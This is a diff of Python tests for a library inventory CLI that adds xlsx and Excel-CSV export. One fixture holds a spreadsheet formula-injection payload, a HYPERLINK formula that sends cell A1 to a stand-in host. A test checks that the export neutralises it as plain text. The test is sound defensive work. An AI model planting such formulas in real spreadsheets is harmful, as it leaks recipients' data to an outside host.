@@ -4,8 +4,10 @@ import csv
 import io
 import json
 from collections.abc import Callable
+from datetime import datetime
 from pathlib import Path
 
+import openpyxl
 import pytest
 from typer.testing import CliRunner
 
@@ -14,7 +16,7 @@ from referral_cli.commands.inventory import list_inventory
 from referral_cli.records import RecordFilter
 from referral_cli.store.inventory_writer import FIELD_ORDER
 from tests.conftest import LIBRARY
-from tests.inventory_repo import BARE, BARE_FILE, BASE, FILES, MARCH_FILE, SIM_FILE
+from tests.inventory_repo import BARE, BARE_FILE, BASE, FILES, MARCH, MARCH_FILE, SIM_FILE
 
 
 @pytest.fixture
@@ -82,6 +84,7 @@ def test_json_carries_every_field(runner: CliRunner, repo: Path) -> None:
             "category": None,
             "row": None,
             "referred_to": ["skatteverket"],
+            "sent_by": [],
             "outcome": "partly",
             "minutes": 25,
             "read_level": 3,
@@ -106,6 +109,7 @@ def test_csv_carries_every_field(runner: CliRunner, repo: Path) -> None:
         "category": "",
         "row": "",
         "referred_to": "skatteverket",
+        "sent_by": "",
         "outcome": "partly",
         "minutes": "25",
         "read_level": "3",
@@ -228,3 +232,96 @@ def test_unknown_references_do_not_stop_the_listing(runner: CliRunner, repo: Pat
     result = runner.invoke(app, ["inventory", "--root", str(repo), "--reason", "egen"])
     assert result.exit_code == 0, result.output
     assert "egen" in result.stdout  # shown by its id when it has no label
+
+
+# --- spreadsheets out (issue 11 item 3, issue 15 item 2) ---------------------------
+
+HOSTILE = """\
+date: 2026-08-24
+description: =HYPERLINK("https://x.example/?q="&A1,"Klicka här")
+branch: centrum
+reasons: [other]
+minutes: 5
+recorded_by: "=A1"
+"""
+
+
+def test_xlsx_has_every_field_with_dates_and_numbers(
+    runner: CliRunner, repo: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "inventering.xlsx"
+    result = runner.invoke(
+        app, ["inventory", "--root", str(repo), "--format", "xlsx", "--out", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    assert result.stdout == f"{out}\n"
+    worksheet = openpyxl.load_workbook(out).active
+    assert worksheet is not None
+    assert worksheet.title == "Frågeinventering"
+    rows = list(worksheet.iter_rows(values_only=True))
+    assert list(rows[0]) == [*FIELD_ORDER, "file"]
+    first = dict(zip(rows[0], rows[1], strict=True))
+    assert first["date"] == datetime(2026, 3, 5)
+    assert (first["minutes"], first["read_level"]) == (25, 3)
+    assert first["reasons"] == "privacy;legal;language"
+    assert (first["row"], first["sent_by"]) == (None, None)
+    assert [row[-1] for row in rows[1:]] == [MARCH_FILE, BASE, SIM_FILE, BARE_FILE]
+    assert worksheet.freeze_panes == "B2"
+
+
+def test_xlsx_sheet_name_follows_the_language(
+    runner: CliRunner, repo: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "inventory.xlsx"
+    args = ["inventory", "--root", str(repo), "--format", "xlsx", "--out", str(out), "--lang", "en"]
+    assert runner.invoke(app, args).exit_code == 0
+    assert openpyxl.load_workbook(out).sheetnames == ["Question inventory"]
+
+
+def test_xlsx_to_standard_output_when_it_is_not_a_terminal(runner: CliRunner, repo: Path) -> None:
+    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "xlsx"])
+    assert result.exit_code == 0
+    assert result.stdout_bytes.startswith(b"PK\x03\x04")  # a zip file: the workbook
+
+
+def test_csv_for_swedish_excel(runner: CliRunner, repo: Path) -> None:
+    result = runner.invoke(app, ["inventory", "--root", str(repo), "--format", "csv", "--excel"])
+    assert result.exit_code == 0, result.output
+    data = result.stdout_bytes
+    assert data.startswith(b"\xef\xbb\xbfdate;description;branch;")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[1][:3] == [
+        "2026-03-05",
+        MARCH.splitlines()[1].removeprefix("description: "),
+        "norrby",
+    ]
+    assert data.count(b"\r\n") == 5  # the header and four entries, each ending in CR LF
+
+
+@pytest.mark.usefixtures("english")
+def test_excel_needs_csv(runner: CliRunner, repo: Path) -> None:
+    result = runner.invoke(app, ["inventory", "--root", str(repo), "--excel"])
+    assert result.exit_code == 2
+    assert result.stderr.startswith("error: --excel shapes CSV for Excel and only works with")
+
+
+def test_no_formula_reaches_a_spreadsheet(runner: CliRunner, repo: Path, tmp_path: Path) -> None:
+    (repo / "data/inventory/2026/hostile.yaml").write_text(HOSTILE, encoding="utf-8")
+    args = ["inventory", "--root", str(repo), "--since", "2026-08-24", "--until", "2026-08-24"]
+    [header, row] = list(
+        csv.reader(io.StringIO(runner.invoke(app, [*args, "--format", "csv"]).stdout))
+    )
+    record = dict(zip(header, row, strict=True))
+    assert record["description"] == "'" + HOSTILE.splitlines()[1].removeprefix("description: ")
+    assert record["recorded_by"] == "'=A1"
+    assert record["minutes"] == "5"
+    out = tmp_path / "x.xlsx"
+    assert runner.invoke(app, [*args, "--format", "xlsx", "--out", str(out)]).exit_code == 0
+    worksheet = openpyxl.load_workbook(out).active
+    assert worksheet is not None
+    cells = {
+        worksheet.cell(1, c).value: worksheet.cell(2, c) for c in range(1, worksheet.max_column + 1)
+    }
+    assert cells["recorded_by"].value == "=A1"  # as recorded, and a text cell
+    assert cells["recorded_by"].data_type == "s" and cells["recorded_by"].quotePrefix
+    assert cells["description"].data_type == "s"
